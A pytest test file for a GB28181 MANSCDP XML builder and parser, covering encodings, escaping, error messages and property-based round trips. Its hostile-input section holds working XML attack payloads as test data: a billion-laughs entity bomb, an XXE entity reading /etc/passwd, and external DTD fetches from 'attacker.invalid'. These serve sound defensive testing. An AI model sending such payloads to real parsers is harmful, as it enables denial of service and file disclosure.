"""Tests for MANSCDP XML: exact bytes, encodings, round trips, and hostile documents."""

from __future__ import annotations

import contextlib
import re
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gb28181talk.errors import ManscdpError
from gb28181talk.signalling.manscdp import (
    MAX_BODY,
    MAX_DEPTH,
    BroadcastNotify,
    BroadcastResponse,
    Keepalive,
    ManscdpMessage,
    build_xml,
    parse_xml,
)

PLATFORM = "34020000002000000001"
DEVICE = "34020000001320000001"
CHANNEL = "34020000001370000001"

NOTIFY_BYTES = (
    b'<?xml version="1.0" encoding="GB2312"?>\r\n'
    b"<Notify>\r\n"
    b"<CmdType>Broadcast</CmdType>\r\n"
    b"<SN>17430</SN>\r\n"
    b"<SourceID>34020000002000000001</SourceID>\r\n"
    b"<TargetID>34020000001370000001</TargetID>\r\n"
    b"</Notify>\r\n"
)

# 设备忙 ("device busy") in GB2312 is C9E8 B1B8 C3A6.
BUSY_RESPONSE_BYTES = (
    b'<?xml version="1.0" encoding="GB2312"?>\r\n'
    b"<Response>\r\n"
    b"<CmdType>Broadcast</CmdType>\r\n"
    b"<SN>17430</SN>\r\n"
    b"<DeviceID>34020000001320000001</DeviceID>\r\n"
    b"<Result>ERROR</Result>\r\n"
    b"<Info>\r\n"
    b"<Reason>\xc9\xe8\xb1\xb8\xc3\xa6</Reason>\r\n"
    b"</Info>\r\n"
    b"</Response>\r\n"
)

KEEPALIVE_UTF8_BYTES = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n'
    b"<Notify>\r\n"
    b"<CmdType>Keepalive</CmdType>\r\n"
    b"<SN>3</SN>\r\n"
    b"<DeviceID>34020000001320000001</DeviceID>\r\n"
    b"<Status>OK</Status>\r\n"
    b"</Notify>\r\n"
)


def test_broadcast_notify_known_bytes() -> None:
    message = BroadcastNotify(sn=17430, source_id=PLATFORM, target_id=CHANNEL)
    assert build_xml(message) == NOTIFY_BYTES
    assert parse_xml(NOTIFY_BYTES) == message


def test_broadcast_response_with_chinese_reason_known_bytes() -> None:
    message = BroadcastResponse(sn=17430, device_id=DEVICE, result="ERROR", reason="设备忙")
    assert build_xml(message, "GB2312") == BUSY_RESPONSE_BYTES
    assert parse_xml(BUSY_RESPONSE_BYTES) == message


def test_broadcast_response_ok_without_reason() -> None:
    message = BroadcastResponse(sn=1, device_id=DEVICE, result="OK")
    body = build_xml(message)
    assert b"<Info>" not in body
    assert parse_xml(body) == message


def test_keepalive_known_bytes() -> None:
    message = Keepalive(sn=3, device_id=DEVICE)
    assert build_xml(message, "UTF-8") == KEEPALIVE_UTF8_BYTES
    assert parse_xml(KEEPALIVE_UTF8_BYTES) == message


def test_device_style_body_is_tolerated() -> None:
    # Indented, lower-case CmdType and result, Reason directly under Response, trailing NULs.
    body = (
        '<?xml version="1.0" encoding="GB2312" standalone="yes"?>\n'
        "<Response>\n"
        "  <CmdType>broadcast</CmdType>\n"
        "  <SN> 42 </SN>\n"
        f"  <DeviceID>\n    {DEVICE}\n  </DeviceID>\n"
        "  <Result>error</Result>\n"
        "  <Reason>通道不存在</Reason>\n"
        "  <!-- a comment -->\n"
        "  <Extra><Nested>ignored</Nested></Extra>\n"
        "</Response>\n"
    ).encode("gb2312") + b"\x00\x00"
    assert parse_xml(body) == BroadcastResponse(42, DEVICE, "ERROR", "通道不存在")


def test_keepalive_without_status_means_ok() -> None:
    body = f"<Notify><CmdType>Keepalive</CmdType><SN>9</SN><DeviceID>{DEVICE}</DeviceID>" \
           "</Notify>"
    assert parse_xml(body.encode()) == Keepalive(9, DEVICE, "OK")


def test_declared_gb2312_but_sent_as_utf8() -> None:
    body = BUSY_RESPONSE_BYTES.replace(b"\xc9\xe8\xb1\xb8\xc3\xa6", "设备忙".encode())
    assert parse_xml(body).reason == "设备忙"  # type: ignore[union-attr]


def test_declared_utf8_but_sent_as_gb2312() -> None:
    body = BUSY_RESPONSE_BYTES.replace(b'encoding="GB2312"', b'encoding="UTF-8"')
    assert parse_xml(body).reason == "设备忙"  # type: ignore[union-attr]


def test_gbk_characters_in_a_gb2312_declared_body() -> None:
    # 镕 is in GBK but not GB2312: devices that declare GB2312 encode with GBK.
    body = BUSY_RESPONSE_BYTES.replace(b"\xc9\xe8\xb1\xb8\xc3\xa6", "镕".encode("gbk"))
    assert parse_xml(body).reason == "镕"  # type: ignore[union-attr]


def test_neither_encoding_is_named_in_the_error() -> None:
    body = BUSY_RESPONSE_BYTES.replace(b"\xc9\xe8\xb1\xb8\xc3\xa6", b"\xff\xfe")
    with pytest.raises(ManscdpError, match=r"declares encoding GB2312 .*not GB2312.*not UTF-8"):
        parse_xml(body)


@pytest.mark.parametrize("encoding", ["GB2312", "gbk", "GB18030", "UTF-8", "utf8"])
def test_every_encoding_declares_itself(encoding: str) -> None:
    message = BroadcastResponse(1, DEVICE, "ERROR", "设备忙 ≠ ☎ 𝄞")
    body = build_xml(message, encoding)
    declared = {"gbk": "GBK", "utf8": "UTF-8"}.get(encoding, encoding)
    assert body.startswith(f'<?xml version="1.0" encoding="{declared}"?>\r\n'.encode())
    assert parse_xml(body) == message


def test_characters_gb2312_lacks_become_references() -> None:
    body = build_xml(BroadcastResponse(1, DEVICE, "ERROR", "☎"), "GB2312")
    assert b"<Reason>&#9742;</Reason>" in body


def test_markup_in_text_is_escaped() -> None:
    message = BroadcastResponse(1, "<&>", "ERROR", "a</Reason><x>&amp;\r\nb")
    body = build_xml(message)
    assert b"<Reason>a&lt;/Reason&gt;&lt;x&gt;&amp;amp;&#13;\nb</Reason>" in body
    assert parse_xml(body) == message


def test_unknown_declared_encoding_is_read_as_utf8_or_gb() -> None:
    body = NOTIFY_BYTES.replace(b"GB2312", b"ISO-8859-1")
    assert parse_xml(body) == parse_xml(NOTIFY_BYTES)


def test_unsupported_build_encoding() -> None:
    with pytest.raises(ManscdpError, match=r"'latin-1'.*GB2312"):
        build_xml(Keepalive(1, DEVICE), "latin-1")


# ------------------------------------------------------------------- hostile input


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&lol9;</DeviceID></Notify>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="GB2312"?>
<!DOCTYPE Notify [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>&xxe;</DeviceID></Notify>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Notify [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Notify SYSTEM "http://attacker.invalid/x.dtd">
<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID></Notify>
"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY,
                                  EXTERNAL_DTD])
def test_doctype_documents_are_refused_before_any_expansion(body: bytes) -> None:
    # Memory counted, not time taken: the billion laughs would take about 3 GB expanded.
    tracemalloc.start()
    try:
        with pytest.raises(ManscdpError, match="DOCTYPE") as caught:
            parse_xml(body)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1024 * 1024, f"{peak} bytes allocated refusing a {len(body)}-byte document"
    assert "lol" * 10 not in str(caught.value)


def test_undeclared_entity_reference_is_refused() -> None:
    with pytest.raises(ManscdpError, match="undefined entity"):
        parse_xml(b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN>"
                  b"<DeviceID>&xxe;</DeviceID></Notify>")


def test_one_megabyte_body_is_refused_by_size() -> None:
    body = NOTIFY_BYTES + b" " * (1024 * 1024)
    with pytest.raises(ManscdpError, match=f"{len(body)} bytes; the limit is {MAX_BODY}"):
        parse_xml(body)


def test_body_at_the_limit_is_read() -> None:
    body = NOTIFY_BYTES + b" " * (MAX_BODY - len(NOTIFY_BYTES))
    assert len(body) == MAX_BODY
    assert isinstance(parse_xml(body), BroadcastNotify)
    with pytest.raises(ManscdpError, match="limit"):
        parse_xml(body + b" ")


def test_deep_nesting_is_refused() -> None:
    depth = 100_000
    body = b"<Notify>" + b"<a>" * depth + b"</a>" * depth + b"</Notify>"
    body = body[:MAX_BODY - 100] if len(body) > MAX_BODY else body
    with pytest.raises(ManscdpError, match=f"deeper than {MAX_DEPTH}"):
        parse_xml(body)


def test_nesting_up_to_the_limit_is_read() -> None:
    inner = MAX_DEPTH - 2
    body = ("<Notify><CmdType>Keepalive</CmdType><SN>1</SN><DeviceID>1</DeviceID><X>"
            + "<a>" * inner + "</a>" * inner + "</X></Notify>").encode()
    assert parse_xml(body) == Keepalive(1, "1")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "not well-formed"),
        (b"<Notify><CmdType>Keepalive</CmdType>", "not well-formed"),
        (b"<Query><CmdType>Catalog</CmdType><SN>1</SN></Query>", "root <Query>"),
        (b"<Notify><CmdType>Catalog</CmdType><SN>1</SN></Notify>",
         "<Notify> CmdType 'Catalog'"),
        (b"<Response><CmdType>Keepalive</CmdType><SN>1</SN></Response>",
         "<Response> CmdType 'Keepalive'"),
        (b"<Notify><SN>1</SN></Notify>", "no <CmdType>"),
        (b"<Notify><CmdType>Keepalive</CmdType><DeviceID>1</DeviceID></Notify>", "no <SN>"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>abc</SN><DeviceID>1</DeviceID></Notify>",
         "<SN> 'abc' is not a non-negative integer"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>-5</SN><DeviceID>1</DeviceID></Notify>",
         "<SN> '-5'"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>1.5</SN><DeviceID>1</DeviceID></Notify>",
         "<SN> '1.5'"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN></SN><DeviceID>1</DeviceID></Notify>",
         "empty <SN>"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>" + b"9" * 5000 + b"</SN></Notify>",
         "5000 digits"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN><SN>2</SN><DeviceID>1</DeviceID>"
         b"</Notify>", "2 <SN> elements"),
        (b"<Notify><CmdType>Keepalive</CmdType><SN>1</SN></Notify>", "no <DeviceID>"),
        (b"<Notify><CmdType>Broadcast</CmdType><SN>1</SN><SourceID>1</SourceID></Notify>",
         "no <TargetID>"),
        (b"<Notify><CmdType>Broadcast</CmdType><SN>1</SN><SourceID> </SourceID>"
         b"<TargetID>2</TargetID></Notify>", "empty <SourceID>"),
        (b"<Response><CmdType>Broadcast</CmdType><SN>1</SN><DeviceID>1</DeviceID>"
         b"<Result>MAYBE</Result></Response>", "<Result> 'MAYBE'"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9\xff</a>',
         "declares unsupported encoding ISO-8859-1 but is not UTF-8"),
    ],
)
def test_errors(body: bytes, message: str) -> None:
    with pytest.raises(ManscdpError, match=re.escape(message)):
        parse_xml(body)


@pytest.mark.parametrize(
    "make",
    [
        lambda: BroadcastNotify(-1, "1", "2"),
        lambda: BroadcastNotify(True, "1", "2"),
        lambda: BroadcastNotify(1, "", "2"),
        lambda: BroadcastNotify(1, "1", "\x00"),
        lambda: BroadcastResponse(1, "1", "ok"),
        lambda: BroadcastResponse(1, "1", "ERROR", ""),
        lambda: BroadcastResponse(1, "1", "ERROR", "\ud800"),
        lambda: Keepalive(1, "1", ""),
        lambda: Keepalive("1", "1"),  # type: ignore[arg-type]
    ],
)
def test_invalid_values_are_refused_on_construction(make: object) -> None:
    with pytest.raises(ManscdpError):
        make()  # type: ignore[operator]


# ------------------------------------------------------------------------ properties

ids = st.text("0123456789", min_size=1, max_size=20)
sns = st.integers(min_value=0)
_XML_TEXT_CHARS = st.one_of(
    st.characters(exclude_categories=("Cs", "Cc", "Cn")),
    st.sampled_from("\t\n\r&<>]]>设备忙离线通道不存在"),
)
texts = st.text(_XML_TEXT_CHARS, min_size=1, max_size=30).map(str.strip).filter(bool)

messages: st.SearchStrategy[ManscdpMessage] = st.one_of(
    st.builds(BroadcastNotify, sns, ids, ids),
    st.builds(BroadcastResponse, sns, ids, st.sampled_from(["OK", "ERROR"]),
              st.none() | texts),
    st.builds(Keepalive, sns, ids, texts),
)


@given(messages, st.sampled_from(["GB2312", "UTF-8", "GBK", "GB18030"]))
def test_build_parse_round_trip(message: ManscdpMessage, encoding: str) -> None:
    body = build_xml(message, encoding)
    assert len(body) <= MAX_BODY
    assert parse_xml(body) == message


@given(st.binary(max_size=500))
def test_arbitrary_bytes_raise_only_manscdp_error(body: bytes) -> None:
    with contextlib.suppress(ManscdpError):
        parse_xml(body)


@given(messages, st.data())
def test_mutated_bodies_raise_only_manscdp_error(message: ManscdpMessage,
                                                   data: st.DataObject) -> None:
    body = bytearray(build_xml(message))
    start = data.draw(st.integers(min_value=0, max_value=len(body)))
    end = data.draw(st.integers(min_value=start, max_value=min(len(body), start + 8)))
    body[start:end] = data.draw(st.binary(max_size=8) | st.sampled_from(
        [b"<", b"&", b"<!DOCTYPE x>", b"<a>", b"</", b"\x00", b"\xff", b"]]>"]))
    with contextlib.suppress(ManscdpError):
        parse_xml(bytes(body))
